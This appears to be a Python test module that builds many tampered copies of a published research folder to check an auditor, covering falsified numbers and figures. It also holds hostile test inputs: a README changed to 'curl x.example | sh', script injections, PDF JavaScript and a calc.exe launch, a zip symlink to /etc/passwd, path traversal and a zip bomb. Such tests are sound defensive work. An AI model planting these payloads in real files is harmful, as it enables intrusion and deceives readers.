"""More forgeries of a published folder: what hides, runs, loads, or agrees with itself and is false."""

import io
import json
import os
import re
import zipfile

import pikepdf
from audit_forging import ARTICLE, FIGURE, JSON, PACKAGE, PAGE, Forger, attach, packed
from forging import forgery
from PIL import Image

P = '<span class="fact" data-fact="II_exact_p">0.1565</span>'
ROOM = "discordant-package"
HANDOUT = "output/en/handouts/compared.html"
DARK = "figures/en/null-distribution-dark.svg"
CASES = "figures/en/cases.svg"


def in_json(*steps, value):
    """Set one value of the data, found by keys."""

    def change(forger):
        def at(document):
            for step in steps[:-1]:
                document = document[step]
            document[steps[-1]] = value

        forger.json(at)

    return change


def glyphs(document, text, other):
    """Exchange the glyphs of a number in a PDF's text for those of another as long."""
    for page in document.pages:
        for name, font in page.Resources.Font.items():
            pairs = re.findall(rb"<([0-9a-fA-F]{4})>\s+<([0-9a-fA-F]{4})>", font.ToUnicode.read_bytes())
            glyph = {chr(int(code, 16)): one.lower() for one, code in pairs}
            if not set(text) | set(other) <= set(glyph):
                continue
            streams = page.Contents if isinstance(page.Contents, pikepdf.Array) else [page.Contents]
            for stream in streams:
                content = stream.read_bytes()
                gap = rb">([-\d.]*)(?:<>[-\d.]*)*<"
                found = re.search(gap.join(glyph[c] for c in text), content)
                if found and name.encode():
                    new = found[0]
                    for old, digit in zip(text, other, strict=True):
                        if old != digit:
                            new = new.replace(glyph[old], glyph[digit], 1)
                    stream.write(content.replace(found[0], new, 1))
                    return
    raise AssertionError(text)


def in_package(name, change):
    return lambda forger: forger.zip(
        lambda members: members.update({f"{ROOM}/{name}": change(members[f"{ROOM}/{name}"])})
    )


def png_painted(forger, path="figures/en/null-distribution.png"):
    """A bar of the second panel is painted twice as high."""
    with Image.open(io.BytesIO(forger.read(path))) as image:
        for x in range(600, 616):
            for y in range(900, 1180):
                image.putpixel((x, y), (184, 38, 29, 255))
        out = io.BytesIO()
        image.save(out, "PNG", dpi=(144, 144))
    forger.put(path, out.getvalue())


def duplicate(forger):
    text = forger.read(JSON).decode()
    false = json.dumps(json.loads(text)["comparisons"]).replace('"b": 100', '"b": 130')
    forger.data(text.replace('"comparisons":', f'"comparisons": {false},\n "comparisons":', 1).encode())


def label_painted(forger, path="figures/en/cases.png"):
    with Image.open(io.BytesIO(forger.read(path))) as image:
        image.paste(image.getpixel((2, 2)), (48, 48, 400, 80))
        out = io.BytesIO()
        image.save(out, "PNG", dpi=(144, 144))
    forger.put(path, out.getvalue())


def before_the_end(html):
    return lambda forger: forger.change(PAGE, "</main>", f"{html}</main>")


def everywhere(forger):
    """One false p-value, the same in the data, on the page and in what is said for its formula."""

    def at(document):
        for lists in document["locales"].values():
            for entries in lists["printed"].values():
                for entry in entries:
                    entry["text"] = entry["text"].replace("0.1565", "0.0365").replace("0,1565", "0,0365")
        document["facts"]["II_exact_p"] = {"kind": "probability", "value": 0.0365}
        document["comparisons"]["II"]["results"]["exact_p"]["value"] = 0.0365

    forger.json(at)
    forger.change(PAGE, "0.1565", "0.0365", -1)


def other_counts(forger):
    def at(document):
        document["comparisons"]["II"]["counts"]["b"] = 130
        document["facts"]["II_b"]["value"] = 130

    forger.json(at)


def passages_exchanged(forger):
    """The numbers of two sentences change places, names and all."""
    text = forger.read(PAGE).decode()
    one = re.search(r" is about (<span[^>]*relative_gain[^>]*>[^<]*</span>)", text)[1]
    other = re.search(r"Let it be (<span[^>]*alpha[^>]*>[^<]*</span>)", text)[1]
    forger.put(
        PAGE, text.replace(f"about {one}", f"about {other}").replace(f"be {other}", f"be {one}").encode()
    )


def alternatives(document):
    for entry in document.objects:
        if isinstance(entry, pikepdf.Dictionary) and "0.156531" in str(entry.get("/Alt", "")):
            entry.Alt = str(entry.Alt).replace("0.156531", "0.036531")
            return
    raise AssertionError("no formula says it")


def linked_elsewhere(document):
    for entry in document.objects:
        if isinstance(entry, pikepdf.Dictionary) and "/URI" in entry.get("/A", {}):
            entry.A.URI = "https://x.example/"


def opened(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launched(document):
    for entry in document.objects:
        if isinstance(entry, pikepdf.Dictionary) and "/URI" in entry.get("/A", {}):
            entry.A = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def updated(forger):
    """A change that is added behind a finished PDF, with an end of its own."""
    content = forger.read(ARTICLE)
    start = content.rindex(b"startxref")
    forger.put(ARTICLE, content + b"\n99 0 obj\n<< /Type /Catalog >>\nendobj\n" + content[start:])


def with_link(members):
    info = zipfile.ZipInfo(f"{ROOM}/LICENSE", (1980, 1, 1, 0, 0, 0))
    info.external_attr = 0o120777 << 16
    members[f"{ROOM}/LICENSE"] = (info, b"/etc/passwd")


def bomb(members):
    members[f"{ROOM}/zeros"] = bytes(60_000_000)


def tail_exchanged(forger):
    forger.sub(PAGE, r'<tr class="tail">(<th[^>]*><span[^>]*II_k_80")', r"<tr>\1")


def bytes_behind(path):
    return lambda forger: forger.put(path, forger.read(path) + b"<script>alert(1)</script>")


def dots_dropped(forger):
    forger.sub(CASES, r'(only-b" d=")M[\d.]+ [\d.]+h0', r"\1")


def unlisted(document):
    del document.attachments["compare.py"]


FORGED = {
    "a bar in an image": png_painted,
    "a number in a PDF": lambda f: f.pdf(ARTICLE, lambda document: glyphs(document, "0.1565", "0.0565")),
    "a key twice": duplicate,
    "a digit behind a comment": lambda f: f.change(PAGE, P, P.replace("0.1565", "0.1565<!-- -->9")),
    "a number that a style writes": lambda f: f.change(
        PAGE, "</style>", 'h1::after{content:" p = 0.01"}</style>'
    ),
    "a style that hides": lambda f: f.change(PAGE, "</style>", ".outcomes{display:none}</style>"),
    "a style that loads": lambda f: f.change(PAGE, "<style>", "<style>@import url(//x.example/a.css);"),
    "an attribute that runs": lambda f: f.change(PAGE, "<h1>", '<h1 onclick="alert(1)">'),
    "a frame": before_the_end('<iframe src="https://x.example/"></iframe>'),
    "a form": before_the_end('<form action="https://x.example/"><input name="a"></form>'),
    "an image from elsewhere": before_the_end('<img src="https://x.example/a.png" alt="">'),
    "a refresh": lambda f: f.change(
        PAGE, "<meta charset", '<meta http-equiv="refresh" content="0;url=//x.example"><meta charset'
    ),
    "a weaker policy": lambda f: f.change(PAGE, "default-src 'none'", "default-src *"),
    "a link that runs": before_the_end('<a href="javascript:alert(1)">more</a>'),
    "a link that leads out": before_the_end('<a href="../../../../etc/passwd">more</a>'),
    "a number among words": before_the_end("<p>All in all p is 0.01.</p>"),
    "a number in other digits": before_the_end("<p>All in all p is ０．０１ or ¾.</p>"),
    "a row in the wrong tail": tail_exchanged,
    "passages that changed places": passages_exchanged,
    "a decimal comma": lambda f: f.change(PAGE, P, P.replace("0.1565", "0,1565")),
    "a percent sign dropped": lambda f: f.change(
        PAGE, 'data-fact="A_accuracy">90%<', 'data-fact="A_accuracy">0.9<'
    ),
    "what is said for a formula": lambda f: f.change(PAGE, "about 0.156531.", "about 0.036531."),
    "a constant of a formula": lambda f: f.sub(
        PAGE, r'(formula-half".*?<mfrac><mn>1</mn><mn>)2<', r"\g<1>3<"
    ),
    "the description": lambda f: f.sub(PAGE, r'(name="description" content="[^"]*?)1,000', r"\g<1>2,000"),
    "a label in a page's drawing": lambda f: f.change(PAGE, "observed: b = 100", "observed: b = 120"),
    "a number at an axis": lambda f: f.sub(PAGE, r"(<text [^>]*>)0\.08<", r"\g<1>0.04<"),
    "what the listing printed": lambda f: f.change(PAGE, "0.1565314695781511", "0.0365314695781511"),
    "the listing's code": lambda f: f.change(PAGE, "only A, both wrong:", "only C, both wrong:"),
    "a number of a table": lambda f: f.sub(PAGE, r'(data-fact="II_chance_90">)[^<]*<', r"\g<1>0.0900<"),
    "the page's language": lambda f: f.change(PAGE, '<html lang="en"', '<html lang="fr"'),
    "a bar of a handout": lambda f: f.sub(
        HANDOUT, r"(panel-1-centre\" d=\"M[\d.]+ [\d.]+L[\d.]+ )[\d.]+(L[\d.]+ )[\d.]+", r"\g<1>60\g<2>60"
    ),
    "a curve of a handout": lambda f: f.sub(
        "output/en/handouts/points.html", r'(curve-2" d="M[\d.]+ )[\d.]+', r"\g<1>99"
    ),
    "a script in a drawing": lambda f: f.change(FIGURE, "</svg>", "<script>alert(1)</script></svg>"),
    "a foreign object in a drawing": lambda f: f.change(
        FIGURE, "</svg>", "<foreignObject><p>p = 0.01</p></foreignObject></svg>"
    ),
    "an entity in a drawing": lambda f: f.put(FIGURE, b'<!DOCTYPE svg [<!ENTITY a "b">]>' + f.read(FIGURE)),
    "dots of a drawing": dots_dropped,
    "the colour of the tails": lambda f: f.change(
        FIGURE, 'height="73" style="fill: #b8261d"', 'height="73" style="fill: #2f69ad"'
    ),
    "the line of what was observed": lambda f: f.sub(
        FIGURE, r'(panel-2-observed" d=")M[\d.]+ ([\d.]+)L[\d.]+', r"\1M520 \2L520"
    ),
    "a bar more": lambda f: f.sub(DARK, r'(panel-1-centre" d=")', r"\g<1>M400 231L400 100L420 100L420 231"),
    "a cover over a drawing": lambda f: f.change(
        FIGURE, "</g>", '<path d="M0 0L700 0L700 300" style="fill: #fffdf9"/></g>'
    ),
    "a label of a drawing": lambda f: f.change(DARK, "0.1565", "0.0365"),
    "words of a drawing's label": lambda f: f.change(DARK, "not far from the middle", "at the very edge"),
    "bytes behind an image": bytes_behind("figures/en/cases.png"),
    "a script that opens with a PDF": lambda f: f.pdf(ARTICLE, opened),
    "a program that a PDF starts": lambda f: f.pdf(ARTICLE, launched),
    "where a PDF's link leads": lambda f: f.pdf(ARTICLE, linked_elsewhere),
    "the data inside a PDF": lambda f: f.pdf(
        ARTICLE, lambda d: attach(d, f.read(JSON).replace(b'"b": 100', b'"b": 130'))
    ),
    "the listing inside a PDF": lambda f: f.pdf(ARTICLE, lambda d: attach(d, b"import os\n", "compare.py")),
    "the listing inside a PDF gone": lambda f: f.pdf(ARTICLE, unlisted),
    "a file inside a PDF": lambda f: f.pdf(ARTICLE, lambda d: attach(d, b"MZ", "setup.exe")),
    "what a PDF says for a formula": lambda f: f.pdf(ARTICLE, alternatives),
    "a PDF's language": lambda f: f.pdf(ARTICLE, lambda d: d.Root.update({"/Lang": pikepdf.String("fr")})),
    "a PDF's title": lambda f: f.pdf(
        ARTICLE, lambda d: d.docinfo.update({"/Title": pikepdf.String("Proof")})
    ),
    "a change behind a PDF's end": updated,
    "the paper of a handout": lambda f: f.put(
        "output/en/handouts/compared-a4.pdf", f.read("output/en/handouts/compared-letter.pdf")
    ),
    "a link in the package": lambda f: f.zip(with_link),
    "a name in the package that leads out": lambda f: f.zip(
        lambda members: members.update({"../evil.py": b"x"})
    ),
    "a bomb in the package": lambda f: f.zip(bomb),
    "a comment of the package": lambda f: f.put(PACKAGE, f.read(PACKAGE)[:-2] + b"\x05\0hello"),
    "a command in a README": in_package(
        "README.md", lambda c: c.replace(b"python experiment.py\n", b"curl x.example | sh\n", 1)
    ),
    "a number in a README": in_package("README.md", lambda c: c.replace(b"1.0.0", b"9.0.0")),
    "a false number that agrees with the data": everywhere,
    "other counts": other_counts,
    "a number that is none": lambda f: f.data(
        re.sub(rb'"value": 0\.05\b', b'"value": NaN', f.read(JSON), count=1)
    ),
    "a fact's kind": in_json("facts", "II_exact_p", "kind", value="percent"),
    "a fact more": in_json("facts", "III_exact_p", value={"kind": "probability", "value": 0.01}),
    "a running number": in_json("facts", "figure_cases", "value", value=7),
    "what two languages print differs": in_json("locales", "it", "printed", "page", 3, "fact", value="N"),
    "a pipe": lambda f: os.mkfifo(f.folder / "output" / "data" / "pipe.csv"),
    "a hidden folder": lambda f: f.put("output/.well-known/a.html", b"<p>"),
    "a link to a folder": lambda f: (f.folder / "output" / "more").symlink_to("/usr/share"),
    "a row more": lambda f: f.put(
        "output/data/null-distribution-I.csv",
        f.read("output/data/null-distribution-I.csv") + b"21,0,0.0,1\r\n",
    ),
    "an empty package": lambda f: f.put(PACKAGE, packed({})),
    "a page that is none": lambda f: f.put(PAGE, b"\xff\xfe"),
    "a page without end": lambda f: f.put(PAGE, b"<div>" * 5000),
    "data without end": lambda f: f.put(JSON, b"[" * 100_000),
    "a manifest that is none": lambda f: f.put("output/data/discordant.schema.json", json.dumps([]).encode()),
}

# what nobody can tell who has only what was published
MISSED = {
    "a false sentence": lambda f: f.change(PAGE, "No model was trained", "Many models were trained"),
    "an image's label": label_painted,
}

for name, change in {**FORGED, **MISSED}.items():
    forgery(f"careful: {name}")(lambda folder, change=change: change(Forger(folder)))
